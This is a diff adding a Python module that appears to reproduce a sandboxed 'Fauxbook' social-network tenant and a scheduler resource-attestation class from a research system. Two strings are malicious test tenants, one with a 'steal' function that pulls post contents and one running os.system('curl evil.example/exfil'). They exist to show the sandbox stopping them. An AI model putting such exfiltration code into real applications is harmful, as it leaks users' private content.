@@ -1,0 +1,122 @@
+"""The Fauxbook tenant application — deployed *as sandboxed source code*.
+
+This is the code a Fauxbook developer ships to the cloud. It runs under
+the two labeling functions (AST analysis + reflection rewriting) and sees
+only the constrained cobuf API: it stores status updates, assembles walls,
+and never holds a byte of user content in inspectable form. The module
+also provides the resource-attestation labeling function for the cloud
+provider's SLA guarantee.
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.kernel.kernel import NexusKernel
+from repro.nal.formula import Formula
+
+#: The tenant source handed to WebFramework.load_tenant. Everything in
+#: here is *untrusted* and runs inside the sandbox.
+FAUXBOOK_TENANT_SOURCE = '''
+_counters = {}
+
+def handle_post(user, status):
+    """Store a status update cobuf on the user's wall; returns its key."""
+    n = _counters.get(user, 0)
+    _counters[user] = n + 1
+    key = "wall/" + user + "/" + str(n)
+    cobuf_store(key, status)
+    return key
+
+def render_wall(reader, wall_owner):
+    """Assemble wall_owner's posts into a page owned by the reader.
+
+    The collation only succeeds when the social graph lets data flow
+    from wall_owner to reader; the tenant cannot bypass that check
+    because it is inside cobuf_collate.
+    """
+    keys = cobuf_keys("wall/" + wall_owner + "/")
+    parts = [cobuf_retrieve(k) for k in keys]
+    return cobuf_collate(reader, parts, b"<hr>")
+
+def wall_size(wall_owner):
+    """Data-independent bookkeeping the tenant *can* do: counting."""
+    return len(cobuf_keys("wall/" + wall_owner + "/"))
+'''
+
+#: A malicious variant that tries to exfiltrate post contents; the cobuf
+#: layer must stop it at run time (tests use this).
+EVIL_TENANT_SOURCE = '''
+def handle_post(user, status):
+    key = "wall/" + user + "/stolen"
+    cobuf_store(key, status)
+    return key
+
+def render_wall(reader, wall_owner):
+    keys = cobuf_keys("wall/" + wall_owner + "/")
+    parts = [cobuf_retrieve(k) for k in keys]
+    return cobuf_collate(reader, parts, b"")
+
+def steal(wall_owner):
+    keys = cobuf_keys("wall/" + wall_owner + "/")
+    first = cobuf_retrieve(keys[0])
+    return bytes(first)
+'''
+
+#: A tenant that fails the *analysis* labeling function outright.
+ILLEGAL_TENANT_SOURCE = '''
+import os
+
+def handle_post(user, status):
+    os.system("curl evil.example/exfil")
+    return "x"
+'''
+
+
+class ResourceAttestor:
+    """The labeling function behind Fauxbook's resource attestation.
+
+    It examines the proportional-share scheduler's internal state through
+    introspection and issues labels vouching for reservations — the
+    cloud provider's side of the SLA (§4.1, Resource Attestation).
+    """
+
+    def __init__(self, kernel: NexusKernel):
+        self.kernel = kernel
+        self.process = kernel.create_process("resource-attestor",
+                                             image=b"resource-attestor")
+
+    def reservations(self) -> dict:
+        raw = self.kernel.introspection.read("/proc/sched/clients",
+                                             reader=self.process.path)
+        out = {}
+        if raw:
+            for item in raw.split(","):
+                name, _, tickets = item.partition("=")
+                out[name] = int(tickets)
+        return out
+
+    def certify_reservation(self, tenant: str,
+                            min_fraction: float) -> Formula | None:
+        """Issue ``attestor says reservedFraction(tenant, pct)`` when the
+        scheduler state supports it; None otherwise."""
+        weights = self.reservations()
+        total = sum(weights.values())
+        if not total or tenant not in weights:
+            return None
+        fraction = weights[tenant] / total
+        if fraction + 1e-9 < min_fraction:
+            return None
+        pct = int(fraction * 100)
+        label = self.kernel.sys_say(
+            self.process.pid, f"reservedFraction({tenant}, {pct})")
+        return label.formula
+
+    def verify_delivery(self, tenant: str, ticks: int = 2000,
+                        tolerance: float = 0.05) -> bool:
+        """Run the scheduler forward and check the measured share against
+        the reservation — the test a skeptical tenant would run."""
+        self.kernel.scheduler.run(ticks)
+        reserved = self.kernel.scheduler.reserved_fraction(tenant)
+        measured = self.kernel.scheduler.share_of(tenant)
+        return abs(measured - reserved) <= tolerance
